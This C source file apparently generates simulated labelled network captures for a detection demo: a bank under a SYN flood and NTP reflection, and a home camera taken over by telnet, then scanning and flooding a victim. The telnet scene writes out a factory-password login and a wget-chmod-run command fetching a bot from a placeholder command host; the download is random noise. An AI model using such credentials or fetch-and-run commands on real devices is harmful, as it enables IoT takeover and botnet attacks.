/*
 * story.c - the stories of the demo: a bank under attack, and a camera that becomes a bot.
 */
#include "scenario/scenario.h"

#define CAMERA ip_of(192, 168, 10, 23)
#define CLOUD  ip_of(198, 51, 100, 40) /* the camera's maker */
#define C2     ip_of(198, 18, 7, 66)
#define VICTIM ip_of(198, 51, 100, 200)

static void packet_syn(struct capture *c, struct head *h, struct msg *m, uint32_t n)
{
	(void)c, (void)m, (void)n;
	h->flags = TCP_SYN;
	syn_options(h, true);
}

/* 52 s: 25 of ordinary traffic, a SYN flood, and soon an NTP reflection too. */
static void bank(struct capture *c, usec_t start)
{
	static const struct scenario syn = { .incident = "flood/syn/inbound/203.0.113.80",
					     .who = "many",
					     .packet = packet_syn,
					     .pps = 2600,
					     .percent = 25 };
	static const struct scenario ntp = {
		.incident = "flood/ntp_reflection/inbound/203.0.113.80",
		.who = "many",
		.packet = reflect_ntp,
		.pps = 1500,
		.sources = 400
	};

	background_office(c, start, start + 52 * SEC, 250 * MS);
	flood_span(c, &syn, start + 25 * SEC, start + 42 * SEC);
	flood_span(c, &ntp, start + 29 * SEC, start + 44 * SEC);
}

/* What a camera does all day: the time, and a picture to the cloud of its maker. */
static void camera_normal(struct capture *c, usec_t from, usec_t to)
{
	struct ends ntp = { { CAMERA, ip_of(198, 51, 100, 123) }, { 123, 123 } };

	for (usec_t at = from; at < to; at += 5 * SEC) {
		struct talk t = { .to = c,
				  .ends = { { CAMERA, CLOUD }, { capture_port(c), 443 } },
				  .now = at + 300 * MS,
				  .rtt = 24 * MS };
		static struct msg m;

		ntp_poll(c, at, &ntp);
		talk_open(&t);
		m.len = 0;
		msg_tls_client_hello(&m, &c->rng, "cloud.camera.example");
		talk_say(&t, 0, msg_span(&m));
		m.len = 0;
		msg_tls_server_hello(&m, &c->rng);
		talk_say(&t, 1, msg_span(&m));
		talk_tls(&t, 0, 20000 + rng_below(&c->rng, 20000));
		talk_tls(&t, 1, 180);
		talk_close(&t, 0);
	}
}

/* Somebody logs in by telnet with the factory password and loads the bot. */
static void camera_taken(struct capture *c, usec_t at)
{
	struct talk t = { .to = c,
			  .ends = { { ip_of(198, 18, 7, 9), CAMERA }, { 40112, 23 } },
			  .now = at,
			  .rtt = 60 * MS };
	struct talk load = { .to = c,
			     .ends = { { CAMERA, C2 }, { capture_port(c), 80 } },
			     .now = at + 1500 * MS,
			     .rtt = 55 * MS };

	capture_label(c, "cleartext_login/-/inbound/192.168.10.23:23", "198.18.7.9");
	talk_open(&t);
	talk_text(&t, 1, "camera login: ");
	talk_text(&t, 0, "root\r\n");
	talk_text(&t, 1, "root\r\nPassword: ");
	talk_text(&t, 0, "xc3511\r\n");
	talk_text(&t, 1, "\r\nBusyBox v1.12.1 built-in shell (ash)\r\n# ");
	talk_text(&t, 0, "wget http://198.18.7.66/arm7 -O /tmp/a; chmod 777 /tmp/a; /tmp/a\r\n");
	talk_close(&t, 0);
	capture_label(c, NULL, NULL);
	talk_open(&load);
	talk_text(&load, 0,
		  "GET /arm7 HTTP/1.0\r\nHost: 198.18.7.66\r\n"
		  "User-Agent: Wget\r\nConnection: close\r\n\r\n");
	talk_text(&load, 1,
		  "HTTP/1.0 200 OK\r\nContent-Length: 60000\r\n"
		  "Content-Type: application/octet-stream\r\n\r\n");
	talk_noise(&load, 1, 60000); /* random bytes: there is no program in it */
	talk_close(&load, 1);
}

/* The bot reports to its master, keeps the line open, and gets the order at the end. */
static void camera_master(struct capture *c, usec_t at, usec_t order)
{
	static const uint8_t hello[] = { 0, 0, 0, 1 }, beat[] = { 0, 0 };
	struct talk t = { .to = c,
			  .ends = { { CAMERA, C2 }, { capture_port(c), 23 } },
			  .now = at,
			  .rtt = 55 * MS };

	talk_open(&t);
	talk_say(&t, 0, (struct span){ hello, sizeof(hello) });
	while (t.now < order - 6 * SEC) {
		talk_wait(&t, 5 * SEC);
		talk_say(&t, 0, (struct span){ beat, sizeof(beat) });
		talk_say(&t, 1, (struct span){ beat, sizeof(beat) });
	}
	t.now = order;
	talk_noise(&t, 1, 26);
}

static void packet_from_camera(struct capture *c, struct head *h, struct msg *m, uint32_t n)
{
	(void)n;
	h->from = CAMERA;
	h->to = VICTIM;
	h->proto = PROTO_UDP;
	h->to_port = 27015;
	msg_bytes(m, capture_noise(c, 512));
}

static void packet_syn_from_camera(struct capture *c, struct head *h, struct msg *m, uint32_t n)
{
	packet_syn(c, h, m, n);
	h->from = CAMERA;
	h->to = VICTIM;
	h->to_port = 80;
}

/* 80 s: 25 ordinary, taken over, 20 of scanning, the order, 10 of UDP, 10 of SYN, 10 after. */
static void camera(struct capture *c, usec_t start)
{
	static const struct scenario udp = { .incident = "flood/udp/outbound/198.51.100.200",
					     .who = "192.168.10.23",
					     .packet = packet_from_camera,
					     .pps = 2000 };
	static const struct scenario syn = { .incident = "flood/syn/outbound/198.51.100.200",
					     .who = "192.168.10.23",
					     .packet = packet_syn_from_camera,
					     .pps = 2000 };

	background_home(c, start, start + 80 * SEC, 500 * MS);
	camera_normal(c, start + SEC, start + 25 * SEC);
	camera_taken(c, start + 25 * SEC);
	camera_master(c, start + 28 * SEC, start + 49 * SEC);
	capture_label(c, "mirai_scan/-/outbound/many", "192.168.10.23");
	for (uint32_t n = 0; n < 20 * 150; n++) {
		usec_t at = rng_between(&c->rng, start + 29 * SEC, start + 49 * SEC);

		mirai_probe(c, at, CAMERA, rng_global4(&c->rng));
	}
	flood_span(c, &udp, start + 50 * SEC, start + 60 * SEC);
	flood_span(c, &syn, start + 60 * SEC, start + 70 * SEC);
}

static void story_bank(struct capture *c, const struct scenario *self)
{
	(void)self;
	bank(c, 0);
}

static void story_camera(struct capture *c, const struct scenario *self)
{
	(void)self;
	camera(c, 0);
}

static void story_both(struct capture *c, const struct scenario *self)
{
	(void)self;
	bank(c, 0);
	camera(c, 55 * SEC);
}

const struct scenario scenarios_story[] = {
	{ "bank", "a bank's web site under a SYN flood and an NTP reflection", .run = story_bank },
	{ "camera", "a camera at home is taken over, scans, and floods a victim",
	  .run = story_camera },
	{ "bank_and_camera", "both stories, one after the other", .run = story_both },
	{ 0 },
};
